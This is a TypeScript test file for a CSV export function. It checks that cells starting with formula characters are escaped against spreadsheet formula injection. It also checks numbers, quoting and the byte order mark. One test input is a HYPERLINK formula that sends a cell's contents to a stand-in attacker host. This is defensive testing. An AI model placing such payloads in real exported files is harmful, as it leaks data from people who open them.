import { expect, it } from 'vitest';
import { csvFile } from './csv-file.ts';
import type { SheetLine } from './handler.ts';

const getText = (...lines: readonly SheetLine[]): string =>
  csvFile('list.csv', lines).bytes.toString('utf8').replace('\ufeff', '');

it.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\tplain',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
])('L04 the text %j is not a formula in a spreadsheet', (hostile) => {
  expect(getText([hostile])).toBe(`"'${hostile.replaceAll('"', '""')}"\r\n`);
});

it('L04 a negative number stays a number', () => {
  expect(getText([-1499.5, 0, 120_000])).toBe('-1499.5,0,120000\r\n');
});

it('a text may contain separators and line breaks', () => {
  expect(getText(['a,b', 'say "no"', 'two\nlines', 'शुल्क'], ['c'])).toBe(
    '"a,b","say ""no""","two\nlines","शुल्क"\r\n"c"\r\n',
  );
});

it('the file begins with the UTF-8 byte order mark', () => {
  const { bytes, type, name } = csvFile('list.csv', [['₹']]);
  expect([bytes.subarray(0, 3).toString('hex'), type, name]).toEqual([
    'efbbbf',
    'text/csv; charset=utf-8',
    'list.csv',
  ]);
});
